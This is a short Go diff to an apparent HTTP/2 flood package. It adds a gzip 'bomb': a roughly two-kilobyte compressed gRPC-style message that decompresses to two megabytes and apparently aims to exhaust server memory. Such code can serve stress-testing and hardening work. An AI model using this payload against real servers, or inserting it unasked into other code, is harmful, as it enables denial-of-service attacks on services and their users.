@@ -2,6 +2,7 @@ package floods
 
 import (
 	"bytes"
+	"compress/gzip"
 	"encoding/binary"
 
 	"golang.org/x/net/http2"
@@ -50,6 +51,15 @@ func (c Call) block(more ...hpack.HeaderField) []byte {
 func (c Call) open(stream uint32, flags http2.Flags) []byte {
 	return frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders|flags, stream, c.block()...)
 }
+
+// bomb is a message of two kilobytes that holds two megabytes, with its prefix.
+var bomb = func() []byte {
+	var b bytes.Buffer
+	w := gzip.NewWriter(&b)
+	_, _ = w.Write(make([]byte, 2<<20)) // into memory
+	_ = w.Close()
+	return join([]byte{1}, number(uint32(b.Len())), b.Bytes())
+}()
 
 // message is the request with its prefix.
 func (c Call) message() []byte {
